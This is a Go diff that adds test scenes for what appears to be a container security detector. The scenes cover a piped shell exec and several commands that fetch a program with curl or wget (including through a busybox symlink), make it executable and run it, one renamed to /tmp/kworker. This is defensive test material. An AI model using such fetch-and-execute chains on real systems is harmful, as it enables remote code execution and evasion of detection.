@@ -57,6 +57,14 @@ func shells() []Scene {
 			Play: func(ctx context.Context, s *Set) error { return s.shopStep(ctx, "enter with a terminal") },
 		},
 		{
+			File: tty + "positive-piped.jsonl", Note: "Somebody feeds commands to a shell in a container, without a terminal, as kubectl exec -i does.", Keep: noReads,
+			Prepare: startSleeper,
+			Play: func(ctx context.Context, s *Set) error {
+				out, err := s.execFed(ctx, s.started[0], "echo $((6 * 7))\n", "/bin/bash")
+				return errors.Join(err, expect(out, "42"))
+			},
+		},
+		{
 			File: tty + "positive-busybox-link.jsonl", Note: "Somebody enters a container with a terminal; its sh is a link to busybox, as on Alpine.", Keep: noReads,
 			Prepare: func(ctx context.Context, s *Set) error {
 				id, err := s.start(ctx, box{args: sh("ln -s /bin/busybox /usr/local/bin/ash; exec busybox sleep 600")})
@@ -219,6 +227,14 @@ func files() []Scene {
 		{
 			File: fetch + "positive-wget-renamed.jsonl", Note: "wget fetches a program, which is moved and run.", Keep: noReads,
 			Play: fetched(box{network: true, args: sh("wget -q -O /tmp/u " + url + " && mv /tmp/u /tmp/kworker && chmod +x /tmp/kworker && /tmp/kworker noop -say ran")}, "ran"),
+		},
+		{
+			File: fetch + "positive-redirected.jsonl", Note: "A shell opens the file that curl's output goes to; it is run.", Keep: noReads,
+			Play: fetched(box{network: true, args: sh("curl -fsS " + url + " > /tmp/update && chmod +x /tmp/update && /tmp/update noop -say ran")}, "ran"),
+		},
+		{
+			File: fetch + "positive-busybox-wget.jsonl", Note: "busybox, called as wget, fetches a program, which is run.", Keep: noReads,
+			Play: fetched(box{network: true, args: sh("mkdir /tmp/b && ln -s /bin/busybox /tmp/b/wget && /tmp/b/wget -q -O /tmp/update " + url + " && chmod +x /tmp/update && /tmp/update noop -say ran")}, "ran"),
 		},
 		{
 			File: fetch + "negative-data.jsonl", Note: "curl fetches data; a program of the image is run on it.", Keep: noReads,
